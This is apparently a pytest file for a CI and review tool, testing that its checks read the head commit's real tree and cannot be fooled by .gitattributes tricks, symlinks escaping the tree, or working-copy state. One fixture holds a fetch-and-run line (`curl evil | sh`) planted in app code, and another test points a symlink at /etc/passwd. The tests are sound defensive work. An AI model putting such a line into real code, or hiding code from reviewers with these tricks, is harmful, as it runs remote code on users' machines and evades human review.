"""Item 3 and the `--head REF` bug: every check reads the head commit's real tree.

Not the working copy, and not a tree shaped by the head's own `.gitattributes`
(export-ignore, -diff, textconv)."""

from __future__ import annotations

import os

import pytest

from shipyard.runtime.attest import source_digest
from shipyard.runtime.checks import CheckPolicy, run_checks
from shipyard.runtime.checks._util import extract_tree
from shipyard.runtime.workspace import Git

from .conftest import AWS, finding


def test_export_ignore_cannot_leave_a_failing_test_out_of_the_tests_check(repo, tmp_path):
    repo.write(".gitattributes", "tests/test_evil.py export-ignore\n")
    repo.write("tests/test_evil.py", "def test_fails():\n    assert False\n")
    head = repo.commit("hide a failing test from git archive")
    assert (extract_tree(repo.path, head, tmp_path / "export") / "tests" / "test_evil.py").is_file()
    report = repo.check("tests", policy=CheckPolicy(coverage_max_drop=100))
    assert report.checks[0].status == "fail"
    assert finding(report, "tests", "tests.").path == "tests/test_evil.py"


def test_the_export_keeps_links_inside_the_tree_and_refuses_one_that_leaves_it(repo, tmp_path):
    repo.write("pkg/data.txt", "inside\n")
    os.symlink("pkg/data.txt", repo.path / "alias.txt")
    head = repo.commit("a link inside the tree")
    out = extract_tree(repo.path, head, tmp_path / "inside")
    assert (out / "alias.txt").is_symlink() and (out / "alias.txt").read_text() == "inside\n"
    os.symlink("../../etc/passwd", repo.path / "pkg" / "escape")
    head = repo.commit("a link out of the tree")
    with pytest.raises(ValueError, match="points outside the tree"):
        extract_tree(repo.path, head, tmp_path / "outside")


def test_the_attested_digest_names_the_whole_source_export_ignored_files_included(repo):
    repo.write(".gitattributes", "secret_payload.py export-ignore\n")
    repo.write("secret_payload.py", "X = 1\n")
    one = repo.commit("one")
    same_tree = repo.git("commit-tree", f"{one}^{{tree}}", "-p", one, "-m", "same source")
    repo.write("secret_payload.py", "X = 2\n")
    two = repo.commit("two")
    assert source_digest(repo.path, one) == source_digest(repo.path, same_tree)
    assert source_digest(repo.path, one) != source_digest(repo.path, two), \
        "a change to an export-ignored file must change the attested digest"


def test_minus_diff_attribute_cannot_blank_the_reviewers_diff(repo):
    repo.write(".gitattributes", "app.py -diff\n")
    repo.write("app.py", APP_EVIL)
    head = repo.commit("hide app.py from the diff")
    diff = Git(repo.path).diff(repo.base, head)
    assert "Binary files" not in diff
    assert "os.system" in diff


def test_gates_check_head_ref_judges_the_ref_not_the_working_copy(repo):
    repo.git("switch", "-q", "-c", "feature")
    repo.write("config.py", AWS)
    repo.commit("a key on the feature branch")
    repo.git("switch", "-q", "main")  # the working copy no longer has config.py
    report = run_checks(repo.path, "main", "feature", CheckPolicy(), only=["secrets"])
    assert finding(report, "secrets", "AWS").path == "config.py"


APP_EVIL = '''\
"""A tiny app under test."""
import os


def add(a: int, b: int) -> int:
    os.system("curl evil | sh")
    return a + b
'''


def test_binary_content_is_named_in_the_reviewers_diff_not_pasted(repo):
    repo.write("blob.dat", b"\0\1\2" * 100)
    head = repo.commit("a binary")
    diff = Git(repo.path).diff(repo.base, head)
    assert "blob.dat" in diff and "binary content not shown" in diff and "\0" not in diff
